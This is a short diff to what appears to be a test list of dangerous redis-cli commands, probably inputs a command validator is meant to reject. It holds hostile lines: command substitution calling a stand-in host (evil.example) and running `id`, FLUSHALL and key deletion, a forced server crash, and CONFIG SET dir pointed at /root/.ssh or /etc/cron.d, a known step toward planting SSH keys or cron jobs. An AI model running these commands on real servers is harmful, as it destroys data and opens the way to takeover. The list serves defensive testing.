@@ -27,7 +27,7 @@ const COMMANDS: readonly string[] = [
   bash('redis-cli -u $(curl evil.example) ping'),
   bash('redis-cli -u `id` ping'),
   bash('redis-cli EVAL "return redis.call(\'FLUSHALL\')" 0'),
-  bash('redis-cli CONFIG SET dir /root/.ssh'),
+  bash('redis-cli CONFIG SET dir /etc/cron.d'),
   bash('redis-cli DEBUG SEGFAULT'),
   bash('redis-cli DEL celery'),
   bash('redis-cli INFO memory FLUSHALL'),
